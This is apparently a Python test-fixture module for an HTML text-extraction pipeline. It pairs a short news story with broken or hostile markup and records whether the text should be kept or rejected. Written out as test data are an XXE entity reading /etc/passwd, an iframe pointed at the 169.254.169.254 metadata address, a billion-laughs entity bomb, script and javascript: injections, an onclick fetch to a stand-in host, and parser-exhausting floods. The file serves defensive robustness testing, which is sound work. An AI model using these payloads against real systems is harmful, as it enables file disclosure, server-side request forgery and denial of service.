"""Pages that are handed in: markup that is broken, or built to break its reader."""

from __future__ import annotations

import json
from typing import Final

from tests.bad_inputs.case import CANARY, STORED, Case, Dead, Repeated, Stored

_C: Final = CANARY
_STORY: Final = (
    f"The port of Harl opened on Tuesday after nine years of work, the authority said, and {_C} was the first to sail. "
    "A crowd of four hundred watched the grain come in, and the mayor spoke of a good day for the whole of the coast."
)
_P: Final = f"<p>{_STORY}</p>"
_ARTICLE: Final = f"<html><body><article>{_P}</article></body></html>"
_KEPT: Final = Stored({"text": _STORY})


def _page(html: str) -> bytes:
    return json.dumps({"html": html}, ensure_ascii=False).encode()


def _flooded(before: str, unit: str, count: int, after: str = "") -> Repeated:
    """Make a page with a flood between two pieces of markup."""
    prefix, _, suffix = _page(f"{before}\x7f{after}").partition(b"\x7f")
    return Repeated(prefix, json.dumps(unit, ensure_ascii=False)[1:-1].encode(), count, suffix)


_SAME_STORY: Final = {
    "a plain page": _ARTICLE,
    "a paragraph and no more": _P,
    "a page that never ends": f"<html><body><article><p>{_STORY}",
    "charset that lies": f'<html><head><meta charset="utf-7"></head><body><article>{_P}</article></body></html>',
    "an encoding in an XML declaration": f'<?xml version="1.0" encoding="koi8-r"?>{_ARTICLE}',
    "a script beside the story": _ARTICLE.replace("</article>", f"</article><script>alert('{_C}')</script>"),
    "a script in the story": _ARTICLE.replace("</article>", f"<script>document.write('{_C}')</script></article>"),
    "a style in the story": _ARTICLE.replace("</article>", "<style>p {display: none}</style></article>"),
    "comments in the story": _ARTICLE.replace("<article>", f"<article><!-- {_C} --><!-->"),
    "a handler": _ARTICLE.replace("<p>", f"<p onclick=\"fetch('http://a.example/{_C}')\">"),
    "an unknown element": _ARTICLE.replace("<article>", "<article><x-y z=1>"),
    "an external entity": f'<!DOCTYPE html [<!ENTITY e SYSTEM "file:///etc/passwd">]>{_ARTICLE}',
    "NUL in the markup": _ARTICLE.replace("<article>", "<article>\0"),
    "a frame": _ARTICLE.replace("</article>", "<iframe src='http://169.254.169.254/'></iframe></article>"),
    "a canonical address elsewhere": _ARTICLE.replace(
        "<body>", '<head><link rel="canonical" href="javascript:alert(1)"></head><body>'
    ),
}

_NO_STORY: Final = {
    "only a comment": f"<!-- {_C} -->",
    "only a script": f"<script>var a = '{_C}';</script>",
    "only white space": " \n ",
    "only a head": f"<html><head><title>{_C}</title></head></html>",
    "only a broken tag": f"<{_C}",
}

_ENTITIES: Final = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else _C}">' for n in range(9))

PAGE_CASES: Final = (
    *(Case(f"page: {name}", _page(html), _KEPT) for name, html in _SAME_STORY.items()),
    *(Case(f"page: {name}", _page(html), Dead("no-text")) for name, html in _NO_STORY.items()),
    Case("page: a billion laughs", _page(f"<!DOCTYPE l [{_ENTITIES}]><p>&e8; {_STORY}</p>"), STORED),
    Case("page: 100,000 elements deep", _flooded("", "<div>", 100_000, _P), Dead("too-large")),
    Case("page: 900 lists in lists", _flooded(f"<html><body>{_P}", "<ul><li>", 900, _C + "</li></ul>" * 900), STORED),
    Case("page: 200,000 tags that never close", _flooded(_P, "<b>", 200_000), Dead("too-large")),
    Case("page: 300,000 tags that never opened", _flooded(_P, "</p>", 300_000), STORED),
    Case("page: 100,000 attributes", _flooded("<p", " a", 100_000, f">{_STORY}</p>"), Dead("too-large")),
    Case("page: an attribute of 3 MB", _flooded('<p title="', "a", 3_000_000, f'">{_STORY}</p>'), STORED),
    Case("page: an address of 3 MB", _flooded('<p><a href="data:,', "a", 3_000_000, f'">{_STORY}</a></p>'), STORED),
    Case("page: 200,000 entities", _flooded("<p>", "&amp;", 200_000, f" {_STORY}</p>"), STORED),
    Case("page: 500,000 angle brackets", _flooded(_P, "<", 500_000), STORED),
    Case("page: a comment that never ends", _flooded(f"{_P}<!--", "-", 1_000_000), STORED),
    Case("page: 10,000 headlines", _flooded("", "<h1>a</h1>", 10_000, _P), STORED),
    Case("page: 20,000 tables in tables", _flooded("", "<table><tr><td>", 20_000, _P), Dead("too-large")),
    Case(
        "page: data for machines 10,000 deep",
        _flooded('<script type="application/ld+json">', "[", 10_000, f"</script><article>{_P}</article>"),
        STORED,
    ),
    Case(
        "page: a story of 2 million letters", _flooded("<p>", "The tide turned. ", 120_000, f"{_C}</p>"), Dead("too-large")
    ),
)
